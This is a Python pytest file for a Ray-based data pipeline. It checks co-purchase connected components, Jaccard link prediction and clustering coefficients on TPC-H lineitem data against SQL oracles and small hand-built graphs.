def test_copurchase_components_end_to_end(ray_session):
    """Support-2 co-purchase components over sf0.001 equal the
    recursive min-label oracle; every component id is its own minimum
    member and both CC routes (driver union-find, distributed
    log-round propagation) agree."""
    import ray.data as rd
    from series_correction_project_updated_ray.stages.graph import (
        copurchase_components)
    d = "/root/testdata/sf0.001"
    li = rd.read_parquet(f"{d}/lineitem.parquet",
                         columns=["l_orderkey", "l_partkey"])
    got = copurchase_components(li).to_pandas() \
        .sort_values("part_key").reset_index(drop=True)
    con = _oracle_con(d, ("lineitem",))
    import __ray_entry__ as E
    want = con.execute(E.oracle_sql()["copurchase_components"]).df() \
        .astype({"part_key": np.int64, "component_id": np.int64}) \
        .sort_values("part_key").reset_index(drop=True)
    pd.testing.assert_frame_equal(got, want, check_dtype=False)
    mins = got.groupby("component_id")["part_key"].min()
    assert (mins.index == mins.to_numpy()).all()
    dist = copurchase_components(li, distributed_cc=True).to_pandas() \
        .sort_values("part_key").reset_index(drop=True)
    pd.testing.assert_frame_equal(got, dist, check_dtype=False)


def test_copurchase_components_kernel_crafted(ray_session):
    """Crafted input: pairs below the support threshold vanish; two
    disjoint repeated pairs form two components labeled by their min
    member."""
    import ray.data as rd
    from series_correction_project_updated_ray.stages.graph import (
        copurchase_components, copurchase_support_edges)
    rows = []
    # pair (1,2) in 2 orders, (2,3) in 3 orders, (10,11) in 2 orders,
    # (5,6) only once -> dropped
    for o, (a, b) in enumerate([(1, 2), (1, 2), (2, 3), (2, 3), (2, 3),
                                (10, 11), (10, 11), (5, 6)], start=1):
        rows.append({"l_orderkey": o, "l_partkey": a})
        rows.append({"l_orderkey": o, "l_partkey": b})
    ds = rd.from_pandas(pd.DataFrame(rows))
    edges = copurchase_support_edges(ds).to_pandas() \
        .sort_values(["u", "v"]).reset_index(drop=True)
    assert edges.values.tolist() == [[1, 2, 2], [2, 3, 3], [10, 11, 2]]
    out = copurchase_components(ds).to_pandas() \
        .set_index("part_key")["component_id"]
    assert out.to_dict() == {1: 1, 2: 1, 3: 1, 10: 10, 11: 10}


def test_link_prediction_jaccard_end_to_end(ray_session):
    """Top-50 Jaccard link predictions over sf0.001 equal the SQL
    oracle; no predicted pair is an existing support-2 edge and scores
    sit in (0, 1]."""
    import ray.data as rd
    from series_correction_project_updated_ray.stages.graph import (
        copurchase_support_edges, link_prediction_jaccard)
    d = "/root/testdata/sf0.001"
    li = rd.read_parquet(f"{d}/lineitem.parquet",
                         columns=["l_orderkey", "l_partkey"])
    got = link_prediction_jaccard(li).to_pandas()
    con = _oracle_con(d, ("lineitem",))
    import __ray_entry__ as E
    want = con.execute(E.oracle_sql()["link_prediction_jaccard"]).df()
    cols = sorted(got.columns)
    g = got[cols].sort_values(["part_a", "part_b"]).reset_index(drop=True)
    w = want[cols].sort_values(["part_a", "part_b"]).reset_index(drop=True)
    pd.testing.assert_frame_equal(g, w, check_dtype=False)
    edges = set(map(tuple, copurchase_support_edges(li).to_pandas()
                    [["u", "v"]].values.tolist()))
    assert not (set(map(tuple, got[["part_a", "part_b"]]
                        .values.tolist())) & edges)
    assert ((got["jaccard"] > 0) & (got["jaccard"] <= 1)).all()


def test_link_prediction_kernel_crafted(ray_session):
    """Crafted square 1-2-3-4-1 (each edge doubled for support): the
    two diagonals (1,3) and (2,4) are the only predictions, each with
    2 common neighbors and Jaccard 2/(2+2-2) = 1.0."""
    import ray.data as rd
    from series_correction_project_updated_ray.stages.graph import (
        link_prediction_jaccard)
    rows = []
    o = 0
    for a, b in [(1, 2), (2, 3), (3, 4), (1, 4)] * 2:
        o += 1
        rows.append({"l_orderkey": o, "l_partkey": a})
        rows.append({"l_orderkey": o, "l_partkey": b})
    out = link_prediction_jaccard(
        rd.from_pandas(pd.DataFrame(rows))).to_pandas() \
        .sort_values(["part_a", "part_b"]).reset_index(drop=True)
    assert out[["part_a", "part_b"]].values.tolist() == [[1, 3], [2, 4]]
    assert (out["common_n"] == 2).all()
    assert (out["jaccard"] == 1.0).all()


def test_clustering_coefficient_end_to_end(ray_session):
    """Per-part clustering coefficients over sf0.001 equal the
    left-join oracle: every degree->=2 node present (zero-triangle
    nodes included), coeff in [0, 1], and triangle counts agree with
    copurchase_triangles."""
    import ray.data as rd
    from series_correction_project_updated_ray.stages.graph import (
        clustering_coefficient, copurchase_triangles)
    d = "/root/testdata/sf0.001"
    li = rd.read_parquet(f"{d}/lineitem.parquet",
                         columns=["l_orderkey", "l_partkey"])
    got = clustering_coefficient(li).to_pandas() \
        .sort_values("part_key").reset_index(drop=True)
    con = _oracle_con(d, ("lineitem",))
    import __ray_entry__ as E
    want = con.execute(E.oracle_sql()["clustering_coefficient"]).df() \
        .astype({"part_key": np.int64, "degree": np.int64,
                 "triangles": np.int64}) \
        .sort_values("part_key").reset_index(drop=True)
    cols = sorted(got.columns)
    pd.testing.assert_frame_equal(got[cols], want[cols],
                                  check_dtype=False)
    assert ((got["coeff"] >= 0) & (got["coeff"] <= 1)).all()
    tri = copurchase_triangles(li).to_pandas() \
        .set_index("part_key")["triangles"]
    sub = got.set_index("part_key")["triangles"]
    assert (sub[tri.index] == tri).all()


def test_clustering_coefficient_kernel_crafted(ray_session):
    """Crafted graph: a K3 (orders {1,2,3}) plus a pendant edge (3,4):
    parts 1,2 have coeff 1.0; part 3 has degree 3, one triangle ->
    1/3; part 4 has degree 1 and is excluded."""
    import ray.data as rd
    from series_correction_project_updated_ray.stages.graph import (
        clustering_coefficient)
    rows = []
    for p in (1, 2, 3):
        rows.append({"l_orderkey": 1, "l_partkey": p})
    rows += [{"l_orderkey": 2, "l_partkey": 3},
             {"l_orderkey": 2, "l_partkey": 4}]
    out = clustering_coefficient(
        rd.from_pandas(pd.DataFrame(rows))).to_pandas() \
        .set_index("part_key")
    assert sorted(out.index) == [1, 2, 3]
    assert out.loc[1, "coeff"] == 1.0 and out.loc[2, "coeff"] == 1.0
    assert out.loc[3, "degree"] == 3 and out.loc[3, "triangles"] == 1
    assert out.loc[3, "coeff"] == 0.333333
